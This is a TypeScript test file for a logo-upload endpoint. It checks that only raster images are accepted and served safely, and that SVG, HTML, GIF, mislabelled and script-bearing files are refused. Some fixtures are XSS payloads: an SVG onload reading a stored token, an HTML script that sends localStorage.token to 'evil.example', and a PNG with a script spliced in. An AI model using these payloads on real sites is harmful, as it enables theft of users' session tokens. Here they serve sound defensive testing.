import { MESSAGES } from '@portico/domain';
import { and, eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { companyImages } from '../src/modules/tables.js';
import { aCompany, aPerson, aStaffAdmin } from './factories.js';
import { createTestApp, type TestApp } from './harness.js';

// No demo data: the factories make the company and its admin, another company and a staff admin.
let t: TestApp;
let company: number;
let other: number;
let admin: string;
let staff: string;

beforeAll(async () => {
  t = await createTestApp({}, { demo: false });
  [company, other] = await Promise.all([aCompany(t).then((c) => c.id), aCompany(t).then((c) => c.id)]);
  [admin, staff] = await Promise.all([
    aPerson(t, { companyId: company, position: 'Company Admin' }).then((p) => p.login()),
    aStaffAdmin(t).then((p) => p.login()),
  ]);
});
afterAll(() => t.close());

// 1×1 images of each accepted type
const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);
const JPEG = Buffer.from(
  '/9j/4AAQSkZJRgABAQEASABIAAD/2wBDAP//////////////////////////////////////////////////////////////////////////////////////wgALCAABAAEBAREA/8QAFBABAAAAAAAAAAAAAAAAAAAAAP/aAAgBAQABPxA=',
  'base64',
);
const WEBP = Buffer.from('UklGRhoAAABXRUJQVlA4TA0AAAAvAAAAEAcQERGIiP4HAA==', 'base64');
const GIF = Buffer.from('R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw==', 'base64');
const SVG = Buffer.from(
  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(localStorage.token)"/>',
);
const HTML = Buffer.from('<!doctype html><html><body><script>fetch("//evil.example/?" + localStorage.token)</script>');
/** A real PNG signature and header chunk, with a script where its data should be. */
const PNG_WITH_SCRIPT = Buffer.concat([
  PNG.subarray(0, 33),
  Buffer.from('<script>alert(1)</script>'),
  PNG.subarray(33),
]);

function multipart(filename: string, contentType: string, data: Buffer) {
  const boundary = `----portico${Math.random().toString(16).slice(2)}`;
  const head = Buffer.from(
    `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${filename}"\r\n` +
      `Content-Type: ${contentType}\r\n\r\n`,
  );
  const tail = Buffer.from(`\r\n--${boundary}--\r\n`);
  return {
    payload: Buffer.concat([head, data, tail]),
    headers: { 'content-type': `multipart/form-data; boundary=${boundary}` },
  };
}

const uploadLogo = (token: string, companyId: number, file: ReturnType<typeof multipart>) =>
  t.call(token, { method: 'POST', url: `/secure/image/company/${companyId}?name=logo`, ...file });
const readLogo = (token: string, companyId: number) =>
  t.call(token, { method: 'GET', url: `/secure/image/company/${companyId}?name=logo` });

describe('logo upload: raster images only', () => {
  it.each([
    ['logo.png', 'image/png', PNG, 'png'],
    ['logo.jpg', 'image/jpeg', JPEG, 'jpg'],
    ['logo.webp', 'image/webp', WEBP, 'webp'],
  ] as const)(
    'accepts %s and serves it with its type, nosniff and an inline filename',
    async (name, type, data, ext) => {
      const res = await uploadLogo(admin, company, multipart(name, type, data));
      expect(res.statusCode, res.body).toBe(200);
      expect(res.json().data).toMatchObject({ contentType: type, size: data.length });

      const read = await readLogo(admin, company);
      expect(read.statusCode).toBe(200);
      expect(read.headers['content-type']).toBe(type);
      expect(read.headers['x-content-type-options']).toBe('nosniff');
      expect(read.headers['content-disposition']).toBe(`inline; filename="logo.${ext}"`);
      expect(read.headers['content-security-policy']).toContain('sandbox');
      expect(read.rawPayload.equals(data)).toBe(true);
    },
  );

  it.each([
    ['an SVG', multipart('logo.svg', 'image/svg+xml', SVG)],
    ['an SVG named .png and sent as a PNG', multipart('logo.png', 'image/png', SVG)],
    ['an HTML page', multipart('page.html', 'text/html', HTML)],
    ['an HTML page renamed .png', multipart('logo.png', 'image/png', HTML)],
    ['a GIF', multipart('logo.gif', 'image/gif', GIF)],
    ['a GIF sent as a PNG', multipart('logo.png', 'image/png', GIF)],
    ['a PNG header followed by a script', multipart('logo.png', 'image/png', PNG_WITH_SCRIPT)],
    ['a JPEG sent as a PNG', multipart('logo.png', 'image/png', JPEG)],
    ['a PNG sent as a WebP', multipart('logo.webp', 'image/webp', PNG)],
    ['a PNG sent as a file of no type', multipart('logo.png', 'application/octet-stream', PNG)],
    ['a text file', multipart('notes.txt', 'text/plain', Buffer.from('hello'))],
  ])('refuses %s with a 400 and keeps the stored logo', async (_what, file) => {
    expect((await uploadLogo(admin, company, multipart('logo.png', 'image/png', PNG))).statusCode).toBe(200);

    const res = await uploadLogo(admin, company, file);
    expect(res.statusCode).toBe(400);
    expect(res.json().message).toBe(MESSAGES.logoImagesOnly);

    const read = await readLogo(admin, company);
    expect(read.statusCode).toBe(200);
    expect(read.headers['content-type']).toBe('image/png');
    expect(read.rawPayload.equals(PNG)).toBe(true);
  });

  it('refuses an upload without a file with the same message', async () => {
    const res = await t.call(admin, {
      method: 'POST',
      url: `/secure/image/company/${company}?name=logo`,
      payload: { not: 'a file' },
    });
    expect(res.statusCode).toBe(400);
    expect(res.json().message).toBe(MESSAGES.logoImagesOnly);
  });

  it('never serves a logo stored before the rule as a document: an old SVG or GIF is not found', async () => {
    for (const [contentType, data] of [
      ['image/svg+xml', SVG],
      ['image/gif', GIF],
      ['text/html', HTML],
    ] as const) {
      await t.database.db
        .insert(companyImages)
        .values({ companyId: other, name: 'logo', kind: 'company', contentType, data })
        .onConflictDoUpdate({ target: [companyImages.companyId, companyImages.name], set: { contentType, data } });
      const read = await readLogo(staff, other);
      expect(read.statusCode, contentType).toBe(404);
      expect(String(read.headers['content-type'])).toMatch(/^application\/json/);
      expect(read.body).not.toContain('<svg');
    }
    await t.database.db
      .delete(companyImages)
      .where(and(eq(companyImages.companyId, other), eq(companyImages.name, 'logo')));
  });
});
